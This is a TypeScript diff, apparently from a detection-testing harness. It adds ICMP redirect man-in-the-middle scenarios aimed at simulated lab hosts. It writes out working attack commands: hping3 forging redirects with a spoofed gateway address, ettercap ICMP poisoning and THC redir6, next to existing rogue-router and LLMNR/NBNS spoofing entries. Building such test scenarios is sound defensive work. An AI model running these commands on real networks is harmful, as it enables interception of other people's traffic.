@@ -112,6 +112,27 @@ function poisoned(answer: string, ask: (site: Site, name: string) => string, nee
   };
 }
 
+/** Alice speaks with a host outside; evil tells her that the way there leads by itself. */
+function redirected(tool: string, command: (site: Site) => string): Attack {
+  return {
+    class: 'icmp.redirect',
+    alerts: ['icmp.redirect'],
+    technique: 'T1557',
+    tool,
+    needs: [tool],
+    speeds,
+    plan: (site) => ({
+      jobs: [
+        { host: 'alice', argv: ['ping', '-q', '-i', '0.5', '-c', '24', site.address('outside')] },
+        { host: 'evil', argv: ['bash', '-c', `sleep 3; exec timeout -s INT 8 ${command(site)}`] },
+      ],
+      attackers: [site.mac('evil')],
+      victims: [site.address('alice'), site.address('gateway')],
+      seconds: 16,
+    }),
+  };
+}
+
 export const neighbourAttacks: readonly Attack[] = [
   thc('rogue', 'ndp.rogue-router', 'fake_router6', 'T1557', () => 'eth0 fd00:bad::/64'),
   thc('rogue.dns', 'ndp.rogue-router', 'fake_router26', 'T1557', () => '-A fd00:bad::/64 -D fd00:bad::53 eth0'),
@@ -179,4 +200,18 @@ export const neighbourAttacks: readonly Attack[] = [
   },
   poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
   poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
+  redirected(
+    'hping3',
+    (site) =>
+      `hping3 -q -I eth0 --icmp -C 5 -K 1 -c 5 -a ${site.address('gateway')} --icmp-gw ${site.address('evil')} ` +
+      `--icmp-ipsrc ${site.address('alice')} --icmp-ipdst ${site.address('outside')} ${site.address('alice')}`,
+  ),
+  redirected('ettercap', (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`),
+  thc(
+    'redirect',
+    'icmp.redirect',
+    'redir6',
+    'T1557',
+    (site) => `eth0 ${site.address6('alice')} ${site.address6('web')} ${site.address6('gateway')} ${site.address6('evil')}`,
+  ),
 ];
